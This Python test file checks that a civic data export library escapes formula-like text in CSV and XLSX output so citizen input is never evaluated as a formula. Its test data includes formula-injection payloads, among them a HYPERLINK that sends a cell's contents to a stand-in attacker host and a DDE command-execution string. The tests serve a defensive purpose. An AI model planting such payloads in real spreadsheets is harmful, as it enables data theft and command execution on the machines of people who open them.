"""Cells from citizens are never evaluated as formulas (cabildo.core.formulas)."""

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from cabildo.core import formulas, xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Más talleres", "a=b", "correo@dominio.co", "", None, 5, -3, 2.5]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_an_apostrophe_in_csv(value):
    buffer = io.StringIO()
    formulas.csv_writer(buffer).writerow(["texto", value])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["texto", "'" + value]


def test_harmless_values_are_unchanged():
    for value in HARMLESS:
        assert formulas.csv_cell(value) == value


def test_openpyxl_rows_keep_formula_like_text_as_text():
    book = Workbook()
    sheet = book.active
    formulas.append_row(sheet, ["cabecera", 1])
    for value in HOSTILE:
        formulas.append_row(sheet, [value, -4])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet_xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula stored
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    rows = list(read.iter_rows(min_row=2, values_only=True))
    # The XML parser may read a carriage return back as a newline (the standard library's
    # does; lxml, which openpyxl uses when installed, keeps it): the text is the same.
    assert [row[0].replace("\r", "\n") for row in rows] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(row[1] == -4 for row in rows)  # numbers stay numbers
    assert all(cell.data_type == "s" for cell in read["A"][1:])


def test_the_streaming_xlsx_writer_stores_text_never_formulas():
    buffer = io.BytesIO()
    with xlsx.XlsxWriter(buffer) as book:
        sheet = book.sheet("Datos")
        sheet.header(["texto"])
        for value in HOSTILE:
            sheet.row([value])
    data = buffer.getvalue()
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    sheets = [n for n in names if n.startswith("xl/worksheets/")]
    for name in sheets:
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name)
    read = load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type == "s" for cell in read["A"][1:])


@given(st.text(alphabet="'=+-@\t\rab ", max_size=8))
def test_every_text_reads_back_from_csv_as_it_was_typed(value):
    """Text that looks like an escape (``'-``) is escaped too, so reading never takes off an
    apostrophe the official typed."""
    buffer = io.StringIO()
    formulas.csv_writer(buffer).writerow([value])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert formulas.csv_text(cell) == value
    assert not formulas.is_formula_like(cell)


def test_an_apostrophe_before_a_formula_sign_is_kept():
    assert formulas.csv_cell("'-") == "''-"
    assert formulas.csv_text("''-") == "'-"
    assert formulas.csv_cell("'abc") == "'abc"  # nothing to tell apart: written as typed
    assert formulas.csv_text("'abc") == "'abc"
